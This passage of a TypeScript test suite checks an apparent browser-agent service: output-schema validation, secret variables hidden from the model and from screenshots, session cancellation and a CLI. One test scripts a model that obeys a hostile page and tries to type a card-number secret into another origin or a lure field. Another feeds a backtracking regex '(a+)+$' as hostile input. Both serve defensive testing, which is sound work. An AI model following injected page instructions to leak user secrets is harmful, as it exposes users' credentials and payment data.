      const { body } = await scene.rest(`${path}/message`, request);
      expect(body).toMatchObject({ status: "done", text: "Found.", output: result, steps: 3 });
      const told = JSON.stringify(provider.asked.map(({ body }) => body));
      expect(told).toContain("Not ended: call done with the requested result.");
      expect(told).toContain("not ended: result/price must be number");
      const { content } = (await entries()).at(-1);
      expect(content).toEqual({ kind: "text", text: "Found.", output: result });
      // The keys are in the order of the schema.
      for (const { output } of [body, content]) expect(Object.keys(output)).toEqual(["stops", "price"]);
      expect(told).toMatch(/"stops":\{.*"price":\{/);
      // The next message requests no output.
      expect((await scene.rest(`${path}/message`, { text: "And?", wait_ms: 60_000 })).body.output).toBeUndefined();
    });
  },
  60_000,
);

test("a turn fails when the model returns no valid result", async () => {
  await storeKey("anthropic");
  await withAgent(async ({ path }) => {
    provider.script = () => call("done", { text: "Found.", result: {} });
    const request = { text: "Find it.", output_schema: train, wait_ms: 60_000 };
    const { body } = await scene.rest(`${path}/message`, request);
    expect(body).toMatchObject({ status: "failed", reason: "output_invalid", steps: 6 });
    expect(body.error.type).toBe("about:blank");
    expect(body.error.detail).toContain("result must have required property 'stops'");
    expect(body.output).toBeUndefined();
  });
}, 60_000);

test("a message rejects an invalid schema, and a schema for a running turn", async () => {
  await storeKey("anthropic");
  await withAgent(async ({ path }) => {
    const ask = (output_schema: object) => scene.rest(`${path}/message`, { text: "Go on.", output_schema });
    const refused = await ask({ type: "object", properties: { a: { pattern: "(a+)+$" } } });
    expect(refused.body.errors).toMatchObject([
      { field: "output_schema", message: expect.stringContaining("pattern") },
    ]);
    provider.script = () => ({ silent: true });
    const { body } = await scene.rest(`${path}/message`, { text: "Go on." });
    const busy = await ask(train);
    expect([slugOf(busy), busy.body.running_turn_id]).toEqual(["conflict", body.turn_id]);
  });
}, 60_000);

/** All texts that the model received, and all that the API returns for the session. */
async function everythingTold(path: string): Promise<string> {
  const { session_id } = (await scene.rest(path)).body;
  const state = await scene.rest(`/v1/sessions/${session_id}/state`);
  const look = await scene.rest(`/v1/sessions/${session_id}/observe`, {});
  const transcript = await scene.rest(`${path}/transcript?limit=100`);
  return JSON.stringify([provider.asked.map(({ body }) => body), state.body, look.body, transcript.body]);
}

test("an agent types secrets it cannot read, a password and a TOTP code, across a takeover by a person", async () => {
  await storeKey("anthropic");
  const domains = ["127.0.0.1"];
  const variables = { password: { value: login.password, domains }, second: { value: login.seed, domains } };
  await withAgent(
    async ({ path, message, entries }) => {
      const agent = (await scene.rest(path)).body;
      expect(agent.variable_names).toEqual(["password", "second"]);
      let code = "";
      say(
        call("navigate", { url: scene.site.url("/login.html") }),
        (asked) => act({ kind: "type", ref: refOf(asked, 'textbox "User"'), text: "{{password}}" }),
        (asked) => act({ kind: "type", ref: refOf(asked, 'textbox "User"'), text: "ada {{nobody}}", clear: true }),
        (asked) => {
          code = refOf(asked, 'textbox "Code"');
          return act({ kind: "type", ref: refOf(asked, 'textbox "Password"'), text: "{{password}}" });
        },
        call("ask_person", { instructions: "Hold the key to the reader, please." }),
        () => act({ kind: "type", ref: code, text: "{{second.totp}}" }, { kind: "key", key: "Enter" }),
        call("observe"),
        ({ results }) => ({ text: results.at(-1) ?? "" }),
      );
      const turn = message("Sign in.");
      const asked = async () => (await entries()).some(({ content }) => /Hold the key/.test(content.text ?? ""));
      expect(await waitUntil(asked, { timeout: 20_000, every: 50 })).toBe(true);
      await scene.rest(`${path}/takeover`, { client_id: "anna" });
      await scene.rest(`${path}/handback`, { client_id: "anna" });
      const { body } = await turn;
      expect(body.text).toContain('"title":"Welcome ada {{nobody}}"');
      expect(body.text).toContain('- text "{{password}} is right: true"');
      expect(body.text).toMatch(/"url":"[^"]+&password={{password}}&code={{second.totp}}"/);
      expect(provider.asked.at(-1)?.results[1]).toContain('textbox "User" ref=');
      expect(provider.asked.at(-1)?.results[1]).toContain('value="{{password}}"');
      const told = await everythingTold(path);
      for (const secret of ["correct", encodeURIComponent(login.password), "k9+", login.seed])
        expect(told).not.toContain(secret);
      expect(provider.asked[0]?.body.system[0].text).toContain("{{password}}, {{second}}");
    },
    { variables },
  );
}, 60_000);

test("pictures of a model or a step show no secret, wherever it was typed", async () => {
  await storeKey("anthropic");
  const pictures = new Map<string, string[]>();
  const take = (text: string, value: string) =>
    withAgent(
      async ({ message, entries }) => {
        say(
          call("navigate", { url: scene.site.url("/login.html") }),
          (asked) => act({ kind: "type", ref: refOf(asked, 'textbox "User"'), text }),
          call("observe", { picture: true }),
          act({ kind: "scroll", dx: 0, dy: 1 }),
          { text: "Seen." },
        );
        await message("Look.");
        const shown = /"data":"(\/9j\/[^"]+)"/.exec(JSON.stringify(provider.asked.at(-1)?.body))?.[1] ?? "none";
        provider.asked.length = 0;
        const { screenshot_path: path } = (await entries()).findLast(({ content }) => content.name === "act").content;
        const headers = { authorization: `Bearer ${scene.service.key}` };
        const shot = await (await fetch(scene.service.url + path, { headers })).bytes();
        pictures.set(value, [shown, Buffer.from(shot).toString("base64")]);
      },
      { variables: { name: { value, domains: ["127.0.0.1"] } } },
    );
  await take("{{name}}", "iiiiiiii");
  await take("{{name}}", "MMMMMMMM");
  await take("WWWWWWWW", "XXXXXXXX");
  expect(pictures.get("iiiiiiii")).not.toContain("none");
  expect(pictures.get("iiiiiiii")).toEqual(pictures.get("MMMMMMMM"));
  // Other texts are visible.
  for (const [index, shown] of (pictures.get("XXXXXXXX") ?? []).entries())
    expect(shown).not.toBe(pictures.get("MMMMMMMM")?.[index]);
}, 60_000);

test("the picture of a step shows what the page has become while the model chose the step", async () => {
  await storeKey("anthropic");
  const change = Promise.withResolvers<void>();
  const changed = Promise.withResolvers<void>();
  const server = createServer(async (request, response) => {
    if (request.url === "/change") await change.promise;
    if (request.url === "/changed") changed.resolve();
    response.end(request.url === "/" ? noisyPage : "");
  });
  const [port] = scene.ports;
  await once(server.listen(port, "127.0.0.1"), "listening");
  try {
    await withAgent(async ({ message, entries }) => {
      const tap = act({ kind: "tap", x: 5, y: 5 });
      say(
        call("navigate", { url: `http://127.0.0.1:${port}/` }),
        tap,
        tap,
        async () => {
          change.resolve();
          await changed.promise;
          return tap;
        },
        { text: "Tapped." },
      );
      expect((await message("Tap.")).body).toMatchObject({ status: "done", steps: 5 });
      const steps = (await entries()).filter(({ content }) => content.name === "act");
      const headers = { authorization: `Bearer ${scene.service.key}` };
      const sizes = steps.map(async ({ content }) => {
        const shot = await fetch(scene.service.url + content.screenshot_path, { headers });
        return (await shot.bytes()).length;
      });
      const [first = 0, second, last] = await Promise.all(sizes);
      expect(second).toBe(first);
      expect(last).toBeGreaterThan(2 * first);
    });
  } finally {
    server.closeAllConnections();
    server.close();
  }
}, 60_000);

test("a model that obeys a hostile page cannot type a secret into another origin, whatever has the focus", async () => {
  await storeKey("anthropic");
  const variables = { card: { value: "4000056655665556", domains: ["127.0.0.1"] } };
  const [, other] = scene.site.hosts;
  await withAgent(
    async ({ path, message }) => {
      say(
        call("navigate", { url: scene.site.url(`/card.html?frame=http://${other}`) }),
        (asked) => act({ kind: "type", ref: refOf(asked, 'textbox "Card"'), text: "card {{card}}" }),
        (asked) => act({ kind: "tap", ref: refOf(asked, 'textbox "Card"') }, { kind: "type", text: "{{card}}" }),
        (asked) => act({ kind: "type", ref: refOf(asked, 'textbox "Lure"'), text: " {{card}}" }),
        call("navigate", { url: `http://${other}/card-frame.html` }),
        (asked) => act({ kind: "type", ref: refOf(asked, 'textbox "Card"'), text: "{{card}}", clear: true }),
        call("navigate", { url: "about:blank" }),
        act({ kind: "type", text: "{{card}}" }),
        call("navigate", { url: scene.site.url("/card-frame.html") }),
        (asked) => act({ kind: "type", ref: refOf(asked, 'textbox "Card"'), text: "{{card}}" }),
        ({ results }) => ({ text: results.at(-1) ?? "" }),
      );
      const { body } = await message("Pay.");
      expect(body).toMatchObject({ status: "done" });
      const results = provider.asked.at(-1)?.results ?? [];
      const refused = `{{card}} is not typed into http://${other}: card is allowed on 127.0.0.1 only`;
      for (const index of [1, 2, 5]) expect(results[index]).toContain(refused);
      expect(results[7]).toContain("{{card}} is not typed into a document without an origin");
      // The secret arrives where it is allowed.
      expect(body.text).toContain('value="{{card}}"');
      const isReceived = () => scene.site.received.some(({ text }) => text === "4000056655665556");
      expect(await waitUntil(isReceived, { timeout: 10_000, every: 20 })).toBe(true);
      expect(scene.site.received.filter(({ host, text }) => host === other && text.trim() !== "")).toEqual([]);
      expect(await everythingTold(path)).not.toContain("4000056655665556");
    },
    { variables },
  );
}, 60_000);

test("variables require hosts, differ from recipe parameters, and have a maximum length", async () => {
  const variables = { a: { value: "x", domains: ["https://a.test"] }, b: { value: "y", domains: ["*.b.test"] } };
  const wrong = await scene.rest("/v1/agent-sessions", { variables, recipe_parameters: { b: "1" } });
  expect(slugOf(wrong)).toBe("validation-failed");
  expect(wrong.body.errors.map(({ field }: { field: string }) => field)).toEqual([
    "variables.a.domains[0]",
    "recipe_parameters.b",
  ]);
  const long = { value: "x".repeat(10_000), domains: ["b.test"] };
  const { body } = await scene.rest("/v1/agent-sessions", { variables: { long, longer: long } });
  expect(body.errors).toEqual([{ field: "variables", message: "must have at most 16384 characters in total" }]);
});

test("a turn ends with its session", async () => {
  await storeKey("anthropic");
  await withOwnBrowser(async ({ path }) => {
    provider.script = () => ({ silent: true });
    const asked = provider.asked.length;
    const turn = scene.rest(`${path}/message`, { text: "Go on.", wait_ms: 60_000 });
    await expect.poll(() => provider.asked.length).toBeGreaterThan(asked);
    await scene.rest(path, undefined, { method: "DELETE" });
    expect((await turn).body).toMatchObject({ status: "cancelled", reason: "session_ended" });
  });
}, 60_000);

test("`pilothouse run` prints the steps of a turn, a link to watch it, and the answer", async () => {
  await storeKey("anthropic");
  say(call("navigate", { url: scene.site.url("/plain.html") }), call("done", { text: "It is plain." }));
  const { key, url } = scene.service;
  const env = { PILOTHOUSE_API_KEY: key, PILOTHOUSE_URL: url };
  const { code, stdout, stderr } = await runInProcess(["run", "Look."], env, { isTerminal: true });
  expect([code, stdout], stderr).toEqual([0, "It is plain.\n"]);
  expect(stderr.trimEnd().split("\n")).toEqual([
    expect.stringMatching(/at http:.+\/live#/),
    "user: Look.",
    expect.stringMatching(/^agent: navigate {"url":".+plain.html"} \(\d+ ms\)$/),
    "agent: It is plain.",
  ]);
  await scene.rest("/v1/account/me/byok-llm-key", undefined, { method: "DELETE" });
  const refused = await runInProcess(["run", "Look."], env, { isTerminal: true });
  expect(refused.stderr).toMatch(/answered 502 LLM credential required: .*\. Set LLM_KEY to a key of your own/);
}, 60_000);
